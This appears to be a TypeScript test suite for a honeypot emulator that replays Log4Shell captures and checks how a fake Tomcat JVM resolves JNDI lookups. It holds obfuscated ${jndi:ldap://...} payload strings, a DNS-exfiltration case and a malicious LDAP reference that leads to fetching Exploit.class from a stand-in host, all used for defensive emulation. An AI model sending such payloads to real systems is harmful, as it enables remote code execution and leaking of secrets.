import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { RecordingEndpoint, ScriptedEndpoint, type NetworkEndpoint } from '../../../src/emulator/behaviour/network-endpoint.ts';
import { berElement, berSequence, berString, berInteger } from '../../../src/emulator/jndi/ber.ts';
import { evaluateLog4jLookups, fakeSecret, javaEnvironment, ldapSearchRequest, type JndiContext } from '../../../src/emulator/jndi/index.ts';
import type { DummyObservation } from '../../../src/emulator/services/observation.ts';
import { skipWithoutCorpus } from '../../helpers/corpus.ts';
import { loggedLookups } from './corpus-payloads.ts';

function context(network: NetworkEndpoint = new RecordingEndpoint()): JndiContext & { observations: DummyObservation[] } {
  const observations: DummyObservation[] = [];
  return {
    network,
    environment: javaEnvironment({ hostName: 'tomcat-dummy', javaVersion: '1.8.0_102', user: 'tomcat' }),
    origin: 'http',
    observe: (observation) => observations.push(observation),
    now: () => 0,
    observations,
  };
}

function sentTo(network: RecordingEndpoint, address: string, port: number): Uint8Array[] {
  const sockets = network.transcript.connects.filter((connect) => connect.address === address && connect.port === port).map((connect) => connect.socket);
  return network.transcript.sent.filter((sent) => sockets.includes(sent.socket) && sent.address === undefined).map((sent) => sent.bytes);
}

function includesBytes(haystack: Uint8Array, needle: Uint8Array): boolean {
  return Buffer.from(haystack).includes(Buffer.from(needle));
}

async function evaluateCapture(capture: string, profileId: string, port: number): Promise<{ network: RecordingEndpoint; observations: DummyObservation[]; texts: string[] }> {
  const { texts } = await loggedLookups(capture, profileId, port);
  const network = new RecordingEndpoint();
  const jndi = context(network);
  for (const text of texts) evaluateLog4jLookups(text, jndi);
  return { network, observations: jndi.observations, texts };
}

describe('Log4Shell payloads of the corpus, extracted by the HTTP layer', { skip: skipWithoutCorpus() }, () => {
  for (const capture of ['cve-2021-44228-log4shell-useragent-revshell.pcap', 'cve-2021-44228-log4shell-login-revshell.pcap']) {
    it(`${capture}: LDAP bind and search for the DN on the payload's server`, async () => {
      const { network, observations } = await evaluateCapture(capture, 'linux-tomcat-log4j-2.14', 8080);
      const sent = sentTo(network, '172.16.238.11', 1389);
      assert.ok(sent.length >= 2, 'bind and search sent on the LDAP connection');
      assert.ok(sent.some((bytes) => includesBytes(bytes, ldapSearchRequest(2, 'a'))), 'searchRequest for the DN');
      assert.ok(observations.some((observation) => observation.kind === 'lookup' && observation.resolved === 'jndi:ldap://172.16.238.11:1389/a'));
    });
  }

  it('dns-exfil: a DNS query to the named server carrying the environment value', async () => {
    const { network } = await evaluateCapture('cve-2021-44228-log4shell-dns-exfil.pcap', 'linux-tomcat-log4j-2.14', 8080);
    const query = network.transcript.sent.find((sent) => sent.address === '10.10.10.31' && sent.port === 53);
    assert.ok(query, 'query sent to the server in the payload');
    assert.ok(Buffer.from(query.bytes).toString('latin1').includes(fakeSecret('POC_PASSWORD')), 'the name carries the environment value');
  });

  it('ldaps-443: the name resolved and a TLS ClientHello naming it on 443', async () => {
    const { network } = await evaluateCapture('cve-2021-44228-log4shell-ldaps-443.pcapng', 'linux-java-log4j-2.14', 8000);
    assert.ok(network.transcript.resolved.includes('ldaps.suspect.network'));
    const connect = network.transcript.connects.find((candidate) => candidate.port === 443);
    assert.ok(connect);
    const hello = network.transcript.sent.find((sent) => sent.socket === connect.socket);
    assert.ok(hello && hello.bytes[0] === 0x16 && hello.bytes[5] === 0x01, 'a TLS handshake record with a ClientHello');
    assert.ok(Buffer.from(hello.bytes).toString('latin1').includes('ldaps.suspect.network'), 'server name indication');
  });
});

describe('evaluateLog4jLookups: obfuscations', () => {
  const obfuscated = [
    '${${lower:J}ndi:${lower:L}dap://x.example:1389/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example:1389/a}',
    '${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//x.example:1389/a}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example:1389/a}",
    '${${upper:j}ndi:ldap://x.example:1389/a}',
    '${jNdI:ldap://x.example:1389/a}',
    '${${lower:${upper:j}}${lower:n}di:ldap://x.example:1389/a}',
    '${${foo:bar:-j}ndi:ldap://x.example:1389/a}',
    'prefix ${jndi:ldap://x.example:1389/a} suffix',
  ];
  for (const text of obfuscated) {
    it(`reaches JNDI: ${text}`, () => {
      const network = new RecordingEndpoint();
      const result = evaluateLog4jLookups(text, context(network));
      assert.deepEqual(result.jndiNames, ['ldap://x.example:1389/a']);
      assert.deepEqual(network.transcript.resolved, ['x.example']);
      assert.equal(network.transcript.connects[0]?.port, 1389);
    });
  }

  it('an escaped $${jndi:…} is not looked up', () => {
    const network = new RecordingEndpoint();
    const result = evaluateLog4jLookups('$${jndi:ldap://x.example/a}', context(network));
    assert.equal(result.text, '${jndi:ldap://x.example/a}');
    assert.equal(network.transcript.connects.length, 0);
  });

  it('the plausible environment answers sys, env, java and hostName', () => {
    const result = evaluateLog4jLookups('${sys:user.name}|${env:USER}|${java:version}|${hostName}|${sys:nope}|${ctx:x}', context());
    assert.equal(result.text, 'tomcat|tomcat|Java version 1.8.0_102|tomcat-dummy|${sys:nope}|${ctx:x}');
  });

  it('each lookup is observed with what it resolved to', () => {
    const jndi = context();
    evaluateLog4jLookups('${java:version} ${jndi:rmi://r.example/o}', jndi);
    const lookups = jndi.observations.filter((observation) => observation.kind === 'lookup');
    assert.deepEqual(
      lookups.map((observation) => (observation.kind === 'lookup' ? [observation.expression, observation.resolved] : [])),
      [
        ['${java:version}', 'Java version 1.8.0_102'],
        ['${jndi:rmi://r.example/o}', 'jndi:rmi://r.example/o'],
      ],
    );
  });

  it('text without a JNDI lookup never reaches the network', () => {
    const network = new RecordingEndpoint();
    evaluateLog4jLookups('Mozilla/5.0 ${lower:ABC} ${date:yyyy} ${unknown}', context(network));
    assert.equal(network.transcript.connects.length + network.transcript.sent.length + network.transcript.resolved.length, 0);
  });
});

describe('evaluateLog4jLookups: providers', () => {
  it('rmi: the JRMP handshake on 1099 by default', () => {
    const network = new RecordingEndpoint();
    evaluateLog4jLookups('${jndi:rmi://10.9.8.7/Object}', context(network));
    assert.deepEqual(network.transcript.connects.map((connect) => [connect.address, connect.port]), [['10.9.8.7', 1099]]);
    assert.equal(Buffer.from(network.transcript.sent[0]!.bytes).toString('latin1').slice(0, 4), 'JRMI');
  });

  it('dns with no server asks the resolver; iiop, corba, nis, nds, http connect', () => {
    const network = new RecordingEndpoint();
    evaluateLog4jLookups('${jndi:dns:///leak.example} ${jndi:iiop://10.1.1.1:9000/x} ${jndi:corbaname:iiop:10.1.1.2:2809#x} ${jndi:nis://10.1.1.3/x} ${jndi:nds://10.1.1.4/x} ${jndi:http://10.1.1.5/x}', context(network));
    assert.ok(network.transcript.resolved.includes('leak.example'));
    assert.deepEqual(
      network.transcript.connects.map((connect) => `${connect.address}:${connect.port}`),
      ['10.1.1.1:9000', '10.1.1.2:2809', '10.1.1.3:111', '10.1.1.4:524', '10.1.1.5:80'],
    );
  });

  it('ldap: a reference answer makes the JVM fetch codebase + factory + .class over HTTP', () => {
    const attribute = (name: string, value: string) => berSequence(0x30, berString(name), berSequence(0x31, berString(value)));
    const entry = berSequence(0x30, berInteger(2), berSequence(0x64, berString('a'), berSequence(0x30, attribute('javaClassName', 'foo'), attribute('javaCodeBase', 'http://10.5.5.5:8888/#Exploit'), attribute('objectClass', 'javaNamingReference'), attribute('javaFactory', 'Exploit'))));
    const done = berSequence(0x30, berInteger(2), berSequence(0x65, berInteger(0, 0x0a), berString(''), berString('')));
    const bindResponse = berSequence(0x30, berInteger(1), berSequence(0x61, berInteger(0, 0x0a), berString(''), berString('')));
    const network = new ScriptedEndpoint({ incoming: [bindResponse, Buffer.concat([entry, done])] });
    evaluateLog4jLookups('${jndi:ldap://10.4.4.4:1389/a}', context(network));
    const fetch = network.transcript.connects.find((connect) => connect.address === '10.5.5.5' && connect.port === 8888);
    assert.ok(fetch, 'connects to the codebase');
    const request = network.transcript.sent.find((sent) => sent.socket === fetch.socket);
    assert.match(Buffer.from(request!.bytes).toString('latin1'), /^GET \/Exploit\.class HTTP\/1\.1\r\n[^]*User-Agent: Java\/1\.8\.0_102/);
    void berElement;
  });
});

describe('evaluateLog4jLookups: hostile input is bounded', () => {
  it('deep nesting, lookup bombs and unbalanced braces end quickly without throwing', () => {
    const texts = [
      '${'.repeat(20_000) + 'x' + '}'.repeat(20_000),
      '${lower:'.repeat(5_000) + 'a' + '}'.repeat(5_000),
      '${jndi:ldap://h.example/a}'.repeat(1_000),
      '${${${${${',
      '}}}}${:-${::-${:-}}}',
      '${env:PATH:-${env:PATH:-${env:PATH}}}'.repeat(200),
    ];
    for (const text of texts) {
      const network = new RecordingEndpoint();
      const started = Date.now();
      const result = evaluateLog4jLookups(text, context(network));
      assert.ok(Date.now() - started < 2_000, 'bounded time');
      assert.ok(result.jndiNames.length <= 8);
      assert.ok(network.transcript.connects.length <= 8);
    }
  });
});
